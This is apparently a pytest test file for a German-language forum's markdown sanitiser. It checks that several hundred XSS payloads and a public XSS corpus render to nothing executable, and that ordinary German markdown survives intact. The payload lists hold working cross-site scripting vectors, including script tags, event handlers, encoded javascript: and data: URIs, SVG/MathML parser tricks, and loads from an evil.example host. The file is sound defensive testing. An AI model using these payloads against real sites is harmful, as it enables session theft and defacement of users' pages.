"""forum/markup.py: markdown rendered once and sanitised — proved with our own payloads and the public XSS corpus."""
from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from forum import ROOT, markup

CORPUS = ROOT / "tests" / "data" / "xss"  # the public corpus with its provenance (README.md), kept in the repo
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}

OWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript:1\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[klick](javascript:alert(1))",
    "[klick](data:text/html,<script>alert(1)</script>)",
    "![bild](javascript:alert(1))",
    "![bild](http://evil.example/tracker.png)",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<form action=\"http://evil.example\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p onclick=\"alert(1)\">x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href=\"http://ok.example\" onmouseover=\"alert(1)\" style=\"color:red\">x</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "[x](http://ok.example \"title\\\" onmouseover=alert(1) x=\\\"\")",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"\\x01javascript:alert(1)\">x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
]

# Script tags, also split, nested, in markdown blocks.
SCRIPT_TAGS = [
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<script type=\"module\">import('//evil.example')</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<scRipt>alert(1)</scRipt>",
    "<script>alert`1`</script>",
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "<noscript><script>alert(1)</script></noscript>",
]
# Event handlers on allowed and unknown elements, in odd spellings.
EVENT_HANDLERS = [
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<a onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<strong onmouseover=alert(1)>fett</strong>",
    "<em onclick=alert(1)>kursiv</em>",
    "<table onmouseover=alert(1)><tr><td>x</td></tr></table>",
    "<td onclick=alert(1)>x</td>",
    "<code onclick=alert(1)>x</code>",
    "<p/onclick=alert(1)>x</p>",
    "<p onclick\n=alert(1)>x</p>",
    "<blockquote oncopy=alert(1)>x</blockquote>",
    "<h3 onpointerenter=alert(1)>x</h3>",
    "<li onanimationstart=alert(1)>x</li>",
    "<body onpageshow=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object onerror=alert(1)>",
    "<x onclick=alert(1)>klick</x>",
    "<a href=# onfocus=alert(1) autofocus>x</a>",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<button onclick=alert(1)>x</button>",
    "<ol start=\"1\" onclick=\"alert(1)\"><li>x</li></ol>",
    "<code class=\"language-x\" onclick=\"alert(1)\">x</code>",
    "<td align=\"left\" onclick=\"alert(1)\">x</td>",
]
# javascript:, data: and other schemes in markdown links and images.
MARKDOWN_URLS = [
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert(1) \"Titel\")",
    "[x](javascript://kommentar%0Aalert(1))",
    "[x](javascript:void(0))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](jar:http://evil.example!/)",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](javascript\t:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](javascript:alert&#40;1&#41;)",
    "[**fett**](javascript:alert(1))",
    "[![bild](javascript:alert(1))](javascript:alert(2))",
    "![x](JaVaScRiPt:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](vbscript:msgbox(1))",
    "![x\"onerror=\"alert(1)](https://ok.example/a.png)",
    "![x](https://ok.example/a.png\"onerror=\"alert(1))",
    "![x](https://ok.example/a.png \"Titel\\\" onerror=\\\"alert(1)\")",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://ok.example\"onmouseover=\"alert(1))",
    "[x](https://ok.example 'a' onclick=alert(1))",
    "[x](http://ok.example/\"><script>alert(1)</script>)",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
]
# Reference-style links and images whose definition carries the payload.
REFERENCE_LINKS = [
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][a]\n\n[a]: JAVASCRIPT:alert(1) \"t\"",
    "[x][]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "[x]\n\n[x]: vbscript:msgbox(1)",
    "![x][bild]\n\n[bild]: javascript:alert(1)",
    "![x][bild]\n\n[bild]: https://evil.example/t.png",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "[x][1]\n\n[1]: &#106;avascript:alert(1)",
    "[x][1]\n\n[1]: javascript&#58;alert(1)",
    "[x][1]\n\n[1]: https://ok.example \"onclick=alert(1)\"",
    "[x][1]\n\n[1]: https://ok.example \"a\\\" onclick=\\\"alert(1)\"",
    "[x][1]\n\n   [1]: javascript:alert(1)",
    "[x][ 1 ]\n\n[1]: javascript:alert(1)",
    "[javascript:alert(1)][1]\n\n[1]: https://ok.example",
    "[x][1]\n[1]: java\tscript:alert(1)",
    "[x][1]\n\n[1]: data:image/svg+xml,<svg onload=alert(1)>",
]
# Autolinks and bare URLs.
AUTOLINKS = [
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "<http://ok.example/\"onmouseover=\"alert(1)>",
    "<https://ok.example/?a=<script>>",
    "<mailto:a@b.example?body=<script>alert(1)</script>>",
    "<a@b.example>",
    "<javascript:alert(1)@b.example>",
    "javascript:alert(1)",
    "www.ok.example/\"onmouseover=alert(1)",
    "https://ok.example/<script>alert(1)</script>",
    "http://ok.example/'onmouseover='alert(1)",
    "https://ok.example/)javascript:alert(1)",
    "<http://ok.example/><script>alert(1)</script>",
]
# Schemes hidden behind character references, tabs, newlines and control characters.
ENTITY_SCHEMES = [
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\"&#14;javascript:alert(1)\">x</a>",
    "<a href=\"javas&NewLine;cript:alert(1)\">x</a>",
    "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
    "<a href=\"&#x26;#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&#x3a;alert(1)\">x</a>",
    "<a href=\"&#74;avascript:alert(1)\">x</a>",
    "<a href=\"d&#97;ta:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"&#x76;bscript:msgbox(1)\">x</a>",
    "<a href=\"&#x20;javascript:alert(1)\">x</a>",
]
# SVG and MathML: foreign content with its own parsing rules.
SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='alert(1)'/></svg>#x\"></use></svg>",
    "<svg><a href=\"javascript:alert(1)\"><circle r=100></circle></a></svg>",
    "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
    "<svg><style>@import 'http://evil.example';</style></svg>",
    "<svg><image href=\"https://evil.example/t.png\"></image></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mtext><h1><a href=\"javascript:alert(1)\">x</a></h1></mtext></math>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
]
# Mismatched, unclosed and confusing markup; dangerous elements and attributes.
MISMATCHED = [
    "<p><a href=\"javascript:alert(1)\">x</p></a>",
    "<strong><em>x</strong></em><img src=x onerror=alert(1)>",
    "<a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">x</a></a>",
    "<table><tr><td><a href=\"javascript:alert(1)\">x</td></tr></table></a>",
    "<ul><li><script>alert(1)</li></ul></script>",
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)//",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\"",
    "<a href=\"javascript:alert(1)\"\n>x",
    "<a href='javascript:alert(1)'>x</a",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<div><style></div><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "</a><img src=x onerror=alert(1)>",
    "<p title=\"</p><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"http://evil.example/\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0\">x</a>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<span style=\"behavior:url(x.htc)\">x</span>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=import href=\"http://evil.example\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=\"https://ok.example\" formaction=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" srcdoc=\"<script>alert(1)</script>\">x</a>",
    "<a title=\"x\" href=\"javascript:alert(1)\">x</a>",
]
# Code blocks and spans: shown as text, never as markup; the info string cannot inject attributes.
CODE = [
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "~~~\n<script>alert(1)</script>\n~~~",
    "```\" onclick=\"alert(1)\nx\n```",
    "```javascript onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "``<a href=\"javascript:alert(1)\">x</a>``",
]
OWN_PAYLOADS = [*OWN_PAYLOADS, *SCRIPT_TAGS, *EVENT_HANDLERS, *MARKDOWN_URLS, *REFERENCE_LINKS, *AUTOLINKS,
                *ENTITY_SCHEMES, *SVG_MATHML, *MISMATCHED, *CODE]


class _Checker(HTMLParser):
    """Collects every element and attribute a browser would build from the output."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in markup.ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                normalised = re.sub(r"[\t\n\r]", "", value.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e"
                                                                  "\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"
                                                                  "\x1b\x1c\x1d\x1e\x1f "))
                scheme = re.match(r"([^/?#]*?):", normalised)
                if scheme and scheme.group(1).lower() not in markup.ALLOWED_PROTOCOLS:
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def problems_in(html: str) -> list[str]:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


def variants(payload: str) -> list[str]:
    """The payload as a whole post, as link text, as link target and as image."""
    return [payload, f"Text [{payload}](http://ok.example) Ende", f"[Link]({payload})", f"![{payload}]({payload})"]


def test_own_corpus_has_at_least_200_distinct_payloads():
    assert len(set(OWN_PAYLOADS)) == len(OWN_PAYLOADS) >= 200


@pytest.mark.parametrize("payload", OWN_PAYLOADS)
def test_own_payloads_leave_nothing_executable(payload):
    for source in variants(payload):
        assert problems_in(markup.render(source)) == [], source


def _corpus() -> list[tuple[str, str]]:
    payloads = []
    for path in sorted(CORPUS.glob("*.txt")):
        multiline_file = path.with_suffix(".multiline")
        multiline = {int(n) for n in multiline_file.read_text().split()} if multiline_file.exists() else set()
        for number, line in enumerate(path.read_text(encoding="utf-8").split("\n")[:-1], start=1):
            if number in multiline:
                line = line.replace("\\n", "\n").replace("\\r", "\r")
            payloads.append((f"{path.name}:{number}", line))
    return payloads


def test_public_xss_corpus_leaves_nothing_executable():
    payloads = _corpus()
    assert len(payloads) >= 800
    failures = []
    for where, payload in payloads:
        for source in variants(payload):
            found = problems_in(markup.render(source[: markup.MAX_SOURCE_CHARS]))
            if found:
                failures.append((where, found))
    assert failures == []


def test_nothing_in_the_project_reads_files_outside_its_repository():
    """A fresh clone must test and run on its own (the XSS corpus once lay outside it)."""
    offenders = []
    for folder in ("forum", "tests", "bench", "tools"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.resolve() == Path(__file__).resolve():
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"ROOT\.parent|\.\./shared|[\"']shared[\"']\s*/", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_markdown_features_users_need_survive_cleaning():
    html = markup.render("# Überschrift\n\n**fett** *kursiv* ~~x~~\n\n- eins\n- zwei\n\n1. a\n2. b\n\n"
                         "> Zitat\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n---\n\n"
                         "Zeile 1\nZeile 2 [Link](https://www.bmas.de) mailto:x <mailto:a@b.example>")
    for fragment in ("<h3>Überschrift</h3>", "<strong>fett</strong>", "<em>kursiv</em>", "<ul>", "<ol>",
                     "<blockquote>", "<table>", '<code class="language-python">', "<hr>", "Zeile 1<br>",
                     '<a href="https://www.bmas.de" rel="nofollow noopener ugc">Link</a>'):
        assert fragment in html, fragment


GERMAN_POST = """## Ergebnisse aus dem Werkstattgespräch in Görlitz

Wir haben **Übergänge** für *Ältere* besprochen – „Gesundheit zuerst“ war das Motto. Straße, Maß, Größe.

- Krankenkassen (AOK, TK)
- Reha-Träger
    - Deutsche Rentenversicherung
- Schuldnerberatung

1. Erstgespräch
2. Fallkonferenz

> Unsere Erfahrung: Vertrauen braucht Zeit.
> — Team Jobcenter Köln

| Maßnahme | Teilnehmende | Quote |
|:---|---:|:---:|
| Gesundheitscoaching | 120 | 45 % |

```python
def grüße(name):
    return f"Hallo {name} & schön, dass Sie da sind!"
```

Förderung nach `§ 16i SGB II`, siehe [Förderrichtlinie](https://www.bmas.de/DE/Bürgergeld/förderung.html "Förderung") \
und https://www.arbeitsagentur.de/jobcenter.
Zweite Zeile."""


def test_ordinary_german_markdown_survives_intact():
    html = markup.render(GERMAN_POST)
    for fragment in (
        "<h3>Ergebnisse aus dem Werkstattgespräch in Görlitz</h3>",  # the text's top heading, below the page's h2
        "<p>Wir haben <strong>Übergänge</strong> für <em>Ältere</em> besprochen – „Gesundheit zuerst“ war das Motto. "
        "Straße, Maß, Größe.</p>",
        "<li>Krankenkassen (AOK, TK)</li>",
        "<li>Reha-Träger<ul>\n<li>Deutsche Rentenversicherung</li>\n</ul>\n</li>",
        "<ol>\n<li>Erstgespräch</li>\n<li>Fallkonferenz</li>\n</ol>",
        "<blockquote>\n<p>Unsere Erfahrung: Vertrauen braucht Zeit.<br>\n— Team Jobcenter Köln</p>\n</blockquote>",
        '<th align="left">Maßnahme</th>', '<th align="right">Teilnehmende</th>', '<td align="center">45 %</td>',
        '<pre><code class="language-python">def grüße(name):\n    return f&quot;Hallo {name} &amp; schön, dass Sie da '
        'sind!&quot;\n</code></pre>',
        "<code>§ 16i SGB II</code>",
        '<a href="https://www.bmas.de/DE/Bürgergeld/förderung.html" title="Förderung" rel="nofollow noopener ugc">'
        "Förderrichtlinie</a>",
        '<a href="https://www.arbeitsagentur.de/jobcenter" rel="nofollow noopener ugc">'
        "https://www.arbeitsagentur.de/jobcenter</a>.<br>\nZweite Zeile.</p>",
    ):
        assert fragment in html, fragment
    assert problems_in(html) == []


@pytest.mark.parametrize("text", [
    "Schöne Grüße aus Köln, Düsseldorf und Gießen!",
    "Änderungen für Übergänge: ÄÖÜ äöü ß – „Zitat“ ‚halb‘ » « … € §",
    "Fallmanagerin, Integrationsfachkraft (m/w/d), 50 %-Stelle",
])
def test_german_text_is_kept_letter_for_letter(text):
    assert markup.render(text) == f"<p>{text}</p>"


def test_bare_urls_are_linked_but_not_inside_code():
    html = markup.render("Siehe https://www.arbeitsagentur.de/jobcenter. und `http://nicht-verlinkt.example`")
    assert '<a href="https://www.arbeitsagentur.de/jobcenter" rel="nofollow noopener ugc">' in html
    assert "<code>http://nicht-verlinkt.example</code>" in html


def test_images_from_other_servers_become_links():
    html = markup.render("![Plakat](https://evil.example/tracker.png)")
    assert "<img" not in html
    assert '<a href="https://evil.example/tracker.png" rel="nofollow noopener ugc">Plakat</a>' in html


def test_typed_html_is_shown_as_text_not_lost():
    assert "&lt;Name&gt;" in markup.render("Bitte <Name> einsetzen")


@pytest.mark.parametrize("source", ["[" * 20_000, "[a" * 10_000, "![[" * 6_600, "(" * 20_000,
                                    "[x](" * 5_000, "1. " * 6_600, ">" * 20_000])
def test_pathological_input_is_rendered_quickly(source):
    started = time.process_time()
    markup.render(source)
    assert time.process_time() - started < 5, "Python-Markdown#798-style blow-up is back"


def test_over_long_source_is_refused():
    with pytest.raises(markup.TextTooLong):
        markup.render("x" * (markup.MAX_SOURCE_CHARS + 1))


def test_only_markup_imports_markdown_or_bleach():
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "forum").rglob("*.py")
                 if path.name != "markup.py"
                 and re.search(r"^\s*(import|from)\s+(markdown|bleach)\b", path.read_text(), re.M)]
    assert offenders == []


def test_plain_text_of_stored_html_is_what_parsing_it_with_bleach_gives():
    """plain_text() cuts tags by pattern (fast enough to reindex a million posts); for everything render() can
    store — the XSS corpus, markdown of every kind — it leaves the words bleach's parser leaves."""
    import bleach
    from html import unescape

    def by_parser(html: str) -> str:
        text = re.sub(r"<li[^>]*>", "• ", html)
        text = re.sub(r"<br\s*/?>\s*", "\n", text)
        text = re.sub(r"</(li|tr)>\s*", "\n", text)
        text = re.sub(r"</(p|h[1-6]|blockquote|pre|ul|ol|table)>\s*", "\n\n", text)
        text = unescape(bleach.clean(text, tags=set(), strip=True))
        lines = [" ".join(line.split()) for line in text.splitlines()]
        return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip()

    sources = [payload for _where, payload in _corpus()] + [
        "# Titel\n\n**fett** und *kursiv*, `<code>` & [Link](https://example.org \"a > b\")\n\n* eins\n* zwei\n\n"
        "> Zitat <b>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<pre> x > y\n```\nZeile  \numbruch"]
    # the same words in the same order (the search's terms and snippets); an empty line may differ where HTML
    # typed as text stands outside a paragraph (4 of the corpus' payloads)
    differing = [source for source in sources
                 if markup.plain_text(html := markup.render(source)).split() != by_parser(html).split()]
    assert differing == []
